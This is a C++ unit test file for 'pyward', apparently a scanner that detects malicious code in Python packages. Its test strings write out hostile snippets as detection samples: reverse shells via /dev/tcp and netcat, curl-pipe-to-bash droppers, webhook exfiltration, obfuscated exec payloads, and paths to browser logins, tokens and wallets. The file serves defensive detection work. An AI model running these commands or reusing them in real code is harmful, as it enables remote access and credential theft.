#include "analysis/indicators.h"

#include <gtest/gtest.h>

#include <unistd.h>

#include <filesystem>
#include <thread>

namespace pyward {
namespace {

// The shipped indicator files, compiled once for all tests.
const IndicatorSet& Shipped() {
  static IndicatorSet* set = [] {
    auto* s = new IndicatorSet;
    std::string err;
    if (!s->Load(std::string(PYWARD_SOURCE_DIR) + "/data/indicators", &err))
      ADD_FAILURE() << err;
    return s;
  }();
  return *set;
}

std::vector<Finding> Find(std::string_view text) {
  std::vector<Finding> out;
  AppendIndicatorFindings(Shipped(), text, "pkg/mod.py", Phase::kImport, &out);
  return out;
}

void ExpectIndicator(std::string_view text, const std::string& rule) {
  std::vector<Finding> fs = Find(text);
  bool hit = false;
  for (const Finding& f : fs) hit |= f.rule == rule;
  EXPECT_TRUE(hit) << "expected " << rule << " in: " << text;
}

void ExpectNoIndicator(std::string_view text) {
  std::vector<Finding> fs = Find(text);
  EXPECT_TRUE(fs.empty()) << "unexpected " << (fs.empty() ? "" : fs[0].rule + " (" +
                                                                   fs[0].message + ")")
                          << " in: " << text;
}

TEST(IndicatorsTest, ShippedFilesLoad) {
  EXPECT_GT(Shipped().indicators().size(), 100u);
  for (const Indicator& i : Shipped().indicators()) {
    EXPECT_FALSE(i.category.empty()) << i.source;
    EXPECT_FALSE(i.attack.empty()) << i.source;
  }
}

TEST(IndicatorsTest, ExfiltrationChannels) {
  ExpectIndicator("requests.post('https://discord.com/api/webhooks/1/x', json=d)",
                  "indicator-webhook");
  ExpectIndicator("u = 'https://DISCORDAPP.com/api/webhooks/123/abc'", "indicator-webhook");
  ExpectIndicator("urlopen('https://api.telegram.org/bot123:AA/sendDocument')",
                  "indicator-webhook");
  ExpectIndicator("post('https://hooks.slack.com/services/T0/B0/xx')", "indicator-webhook");
  // A bot token written out (a client library's bot, in the attacker's hands).
  ExpectIndicator("bot = telebot.TeleBot('1234567890:AAE0123456789abcdefghijklmnopqrstuv')",
                  "indicator-webhook");
  ExpectNoIndicator("bot = telebot.TeleBot(os.environ['TOKEN'])");
  ExpectNoIndicator("ratio = '1234567890:AAE0123'");
  ExpectIndicator("get('https://pastebin.com/raw/abcd')", "indicator-paste");
  ExpectIndicator("requests.get('http://x.oast.fun/' + data)", "indicator-tunnel");
  ExpectIndicator("host = 'abc123.ngrok.io'", "indicator-tunnel");
  ExpectIndicator("curl https://webhook.site/1234", "indicator-tunnel");
  ExpectIndicator("cmd = 'powershell Add-MpPreference -ExclusionPath C:/x'", "indicator-defense-evasion");
  ExpectIndicator("k = r'Policies\\System'; name = 'EnableLUA'", "indicator-defense-evasion");
  ExpectIndicator("r = get('https://bit.ly/3xyz')", "indicator-shortener");
  ExpectIndicator("curl --upload-file ./a https://transfer.sh/a", "indicator-filehost");
  // A Windows program served raw from a repository; its scripts are left out.
  ExpectIndicator("u = 'https://raw.githubusercontent.com/a/b/main/tool.exe'", "indicator-filehost");
  ExpectIndicator("u = 'https://github.com/a/b/raw/main/Updater.exe'", "indicator-filehost");
  ExpectNoIndicator("u = 'https://raw.githubusercontent.com/a/b/main/enable-rdp.ps1'");
  ExpectNoIndicator("u = 'https://github.com/a/b/releases/download/v1/tool.exe'");
  ExpectIndicator("ip = get('https://api.ipify.org').text", "indicator-ip-lookup");
  ExpectIndicator("urlopen('https://iplogger.org/2Abc')", "indicator-ip-logger");
  ExpectIndicator("get('https://iplogger.com')", "indicator-ip-logger");
  ExpectNoIndicator("iplogger.info('address %s', ip)");
}

TEST(IndicatorsTest, IpLiteralUrls) {
  ExpectIndicator("urlopen('http://45.13.2.9:8080/payload')", "indicator-ip-url");
  ExpectIndicator("u = \"https://8.8.8.8/\"", "indicator-ip-url");
  ExpectIndicator("s.connect(('91.92.1.3', 4444))", "indicator-ip-url");
  ExpectNoIndicator("app.run('http://127.0.0.1:5000/')");
  ExpectNoIndicator("Set-MpPreference is documented here");  // no switch turned off
  ExpectNoIndicator("see http://192.168.1.10/ and http://10.0.0.1:80/");
  ExpectNoIndicator("proxy = 'http://172.17.0.1:3128'");
  ExpectNoIndicator("version 1.2.3.4 released");
  // Finding the local address by "connecting" a UDP socket to a resolver.
  ExpectNoIndicator("s.connect(('8.8.8.8', 80))");
  ExpectNoIndicator("ssdp = 'http://239.255.255.250:1900/'");
}

TEST(IndicatorsTest, SecretsAndWallets) {
  ExpectIndicator("open(os.path.expanduser('~/.aws/credentials')).read()",
                  "indicator-sensitive-path");
  ExpectIndicator("p = home + '\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data'",
                  "indicator-sensitive-path");
  ExpectIndicator("os.path.join(roaming, 'discord', 'Local Storage', 'leveldb')",
                  "indicator-sensitive-path");
  ExpectIndicator("wallets = appdata + '/Exodus/exodus.wallet'", "indicator-sensitive-path");
  ExpectIndicator("os.path.join(home, '.minecraft', 'launcher_accounts.json')",
                  "indicator-sensitive-path");
  ExpectIndicator("os.path.join(home, '.lunarclient', 'settings', 'game', 'accounts.json')",
                  "indicator-sensitive-path");
  ExpectNoIndicator("json.load(open('accounts.json'))");
  // Game launchers' account token stores.
  ExpectIndicator("os.path.join(home, 'AppData', 'Roaming', '.minecraft', 'launcher_accounts.json')",
                  "indicator-sensitive-path");
  ExpectIndicator("os.path.join(home, '.lunarclient', 'settings', 'game', 'accounts.json')",
                  "indicator-sensitive-path");
  ExpectNoIndicator("accounts = load('my_accounts.json')");
  ExpectIndicator("if name == '.ROBLOSECURITY':", "indicator-credential-theft");
  ExpectIndicator("re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', t)",
                  "indicator-credential-theft");
  ExpectIndicator("token = os.environ['GITHUB_TOKEN']", "indicator-secret-env");
  // A lower-case English phrase is not the browser file.
  ExpectNoIndicator("# keep local state in memory and login data short");
}

TEST(IndicatorsTest, ShellsMinersPersistenceDroppers) {
  ExpectIndicator("os.system('bash -i >& /dev/tcp/1.2.3.4/4444 0>&1')",
                  "indicator-reverse-shell");
  ExpectIndicator("os.dup2(s.fileno(), 0)", "indicator-reverse-shell");
  ExpectIndicator("subprocess.call(['nc', '-e', '/bin/sh', h, p])", "indicator-reverse-shell");
  ExpectIndicator("cmd = 'nc -e /bin/sh 1.2.3.4 9'", "indicator-reverse-shell");
  ExpectIndicator("'-o', 'stratum+tcp://pool:3333'", "indicator-miner");
  ExpectIndicator("key = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'",
                  "indicator-persistence");
  ExpectIndicator("os.chdir(f'C:/Users/{u}/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup')",
                  "indicator-persistence");
  ExpectIndicator("os.system('curl -s http://x.example/a.sh | bash')", "indicator-dropper");
  ExpectIndicator("powershell -NoP -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
                  "indicator-dropper");
  ExpectNoIndicator("subprocess.run(['git', 'describe', '--tags'])");
  // Daemons redirect their own files, not sockets.
  ExpectNoIndicator("os.dup2(fh.fileno(), 0)");
  ExpectNoIndicator("msg = downmessage_pb2.DownloadFile()");
}

TEST(IndicatorsTest, PlantedBrowserExtensions) {
  ExpectIndicator("m = '{\"background\": {}, \"permissions\": [\"tabs\", \"clipboardRead\"]}'",
                  "indicator-browser-extension");
  ExpectIndicator("s.Arguments = '--load-extension=' + folder", "indicator-browser-extension");
  ExpectNoIndicator("m = '{\"permissions\": [\"tabs\", \"storage\"]}'");
  ExpectNoIndicator("scheme = ['load', 'load-extension', 'load-from-path']");
}

TEST(IndicatorsTest, ConcealedPayloads) {
  ExpectIndicator("__import__('builtins').exec(__import__('builtins').compile(x, 'a', 'exec'))",
                  "indicator-obfuscation");
  ExpectIndicator("exec(base64.b64decode('cHJpbnQoMSk='))", "indicator-obfuscation");
  ExpectIndicator("exec(zlib.decompress(b'x'))", "indicator-obfuscation");
  ExpectIndicator("exec(marshal.loads(blob))", "indicator-obfuscation");
  ExpectIndicator("getattr(m, '\\x5f\\x5f\\x69\\x6d\\x70\\x6f\\x72\\x74\\x5f\\x5f')",
                  "indicator-obfuscation");  // '__import__' as hex escapes
  ExpectNoIndicator("data = base64.b64decode(s)\nexec_count = 1\n");
  ExpectNoIndicator("MAGIC = b'\\x5f\\x5f\\x00\\x01\\xff'\nPAD = b'\\x66\\x66\\x66\\x66'\n");
}

TEST(IndicatorsTest, OrdinaryPackageTextIsQuiet) {
  ExpectNoIndicator(
      "from setuptools import setup\n"
      "setup(name='x', url='https://github.com/x/x', project_urls={'Docs': "
      "'https://x.readthedocs.io', 'PyPI': 'https://pypi.org/project/x'})\n"
      "s3 = boto3.client('s3', endpoint_url='https://s3.amazonaws.com')\n");
}

TEST(IndicatorsTest, PackageFilesAreWeighedByWhatRuns) {
  ArchiveMember code, readme, ci, test;
  code.path = "pkg-1.0/pkg/__init__.py";
  code.data = "post('https://discord.com/api/webhooks/1/x')";
  readme.path = "pkg-1.0/README.md";
  readme.data = code.data;
  ci.path = "pkg-1.0/.github/workflows/ci.yml";
  ci.data = "run: curl https://sh.rustup.rs | sh";
  test.path = "pkg-1.0/tests/test_x.py";
  test.data = code.data;
  Package pkg;
  for (ArchiveMember* m : {&code, &readme, &ci, &test}) {
    PackageFile f;
    f.member = m;
    f.path = m->path;
    f.rel = m->path.substr(8);
    f.role = m == &code ? FileRole::kImport : m == &test ? FileRole::kTest : FileRole::kRuntime;
    pkg.files.push_back(f);
  }
  std::vector<Finding> out;
  AppendPackageIndicatorFindings(Shipped(), pkg, &out);
  ASSERT_EQ(out.size(), 4u);
  EXPECT_EQ(out[0].weight, 1.0);
  EXPECT_EQ(out[0].phase, Phase::kImport);
  EXPECT_LT(out[1].weight, 1.0);  // README
  EXPECT_LT(out[2].weight, 1.0);  // CI configuration
  EXPECT_EQ(out[2].rule, "indicator-dropper");
  EXPECT_LT(out[3].weight, 1.0);  // test
  EXPECT_EQ(out[3].phase, Phase::kNone);
}

TEST(IndicatorsTest, FindingCarriesLineAndEvidence) {
  std::vector<Finding> fs = Find("import requests\n\nrequests.post('https://discord.com/api/webhooks/9/z')\n");
  ASSERT_EQ(fs.size(), 1u);
  EXPECT_EQ(fs[0].rule, "indicator-webhook");
  EXPECT_EQ(fs[0].line, 3);
  EXPECT_EQ(fs[0].severity, Severity::kHigh);
  EXPECT_EQ(fs[0].phase, Phase::kImport);
  EXPECT_EQ(fs[0].file, "pkg/mod.py");
  EXPECT_NE(fs[0].evidence.find("discord.com/api/webhooks/"), std::string::npos);
  EXPECT_NE(fs[0].message.find("T1567"), std::string::npos);
}

TEST(IndicatorsTest, LongLineEvidenceIsCut) {
  std::string text(200000, ' ');
  text += "exec(get('https://pastebin.com/raw/q'))";
  std::vector<Finding> fs = Find(text);
  ASSERT_EQ(fs.size(), 1u);
  EXPECT_LE(fs[0].evidence.size(), 170u);
  EXPECT_EQ(fs[0].rule, "indicator-paste");
  EXPECT_NE(fs[0].evidence.find("pastebin.com/raw"), std::string::npos);
}

TEST(IndicatorsTest, FileFormatAndErrors) {
  IndicatorSet set;
  std::string err;
  const std::string header = "# category: test\n# severity: low\n# attack: T0000 Test\n";
  ASSERT_TRUE(set.LoadFromTexts(
      {{"a.txt", header + "lit:evil.example  -  an evil host\n"
                          "LIT:CaseKept  high  case kept\n"
                          "re:foo\\d+bar  medium  a regex\n"
                          "lit:two\\x20words  -  escaped space\n"}},
      &err))
      << err;
  std::vector<std::string> seen;
  set.Match("EVIL.EXAMPLE casekept CaseKept foo12bar two words",
            [&](const Indicator& i, size_t) { seen.push_back(i.description); });
  ASSERT_EQ(seen.size(), 4u);
  EXPECT_EQ(seen[0], "an evil host");
  EXPECT_EQ(seen[1], "case kept");
  EXPECT_EQ(set.indicators()[0].severity, Severity::kLow);
  EXPECT_EQ(set.indicators()[1].severity, Severity::kHigh);

  IndicatorSet bad;
  EXPECT_FALSE(bad.LoadFromTexts({{"b.txt", header + "nolit  low  x\n"}}, &err));
  EXPECT_NE(err.find("b.txt:4"), std::string::npos) << err;
  EXPECT_FALSE(bad.LoadFromTexts({{"c.txt", header + "re:(unclosed  low  x\n"}}, &err));
  EXPECT_NE(err.find("c.txt:4"), std::string::npos) << err;
  EXPECT_FALSE(bad.LoadFromTexts({{"d.txt", "lit:x  low  no header\n"}}, &err));
  EXPECT_NE(err.find("d.txt:1"), std::string::npos) << err;
  EXPECT_FALSE(bad.LoadFromTexts({{"e.txt", header + "lit:x  severe  x\n"}}, &err));
  EXPECT_FALSE(bad.LoadFromTexts({{"f.txt", header + "lit:x  low\n"}}, &err));
}

TEST(IndicatorsTest, CompiledDatabaseIsCachedAndReused) {
  std::filesystem::path cache =
      std::filesystem::temp_directory_path() / ("pyward_ind_cache_" + std::to_string(::getpid()));
  const std::string dir = std::string(PYWARD_SOURCE_DIR) + "/data/indicators";
  std::string err;
  IndicatorSet first, second;
  ASSERT_TRUE(first.Load(dir, &err, cache.string())) << err;
  EXPECT_FALSE(first.from_cache());
  ASSERT_TRUE(second.Load(dir, &err, cache.string())) << err;
  EXPECT_TRUE(second.from_cache());
  int hits = 0;
  second.Match("x = 'https://pastebin.com/raw/a'", [&](const Indicator&, size_t) { ++hits; });
  EXPECT_EQ(hits, 1);
  // A damaged cache file is ignored: the patterns are compiled again.
  for (const auto& e : std::filesystem::directory_iterator(cache))
    std::filesystem::resize_file(e.path(), 100);
  IndicatorSet third;
  ASSERT_TRUE(third.Load(dir, &err, cache.string())) << err;
  EXPECT_FALSE(third.from_cache());
  std::filesystem::remove_all(cache);
}

TEST(IndicatorsTest, SharedByThreads) {
  const IndicatorSet& set = Shipped();
  std::vector<std::thread> ts;
  std::vector<int> counts(4);
  for (int t = 0; t < 4; ++t) {
    ts.emplace_back([&, t] {
      for (int i = 0; i < 200; ++i)
        set.Match("x https://pastebin.com/raw/a y", [&](const Indicator&, size_t) {
          ++counts[t];
        });
    });
  }
  for (auto& t : ts) t.join();
  for (int c : counts) EXPECT_EQ(c, 200);
}

TEST(IndicatorsTest, EmptyAndBinaryInput) {
  EXPECT_TRUE(Find("").empty());
  static const char kBin[] = "\x00\xff\x7f" "ELF\x00/dev/tcp/9.9.9.9/53\x00";
  std::string bin(kBin, sizeof kBin - 1);
  ExpectIndicator(bin, "indicator-reverse-shell");
}

}  // namespace
}  // namespace pyward
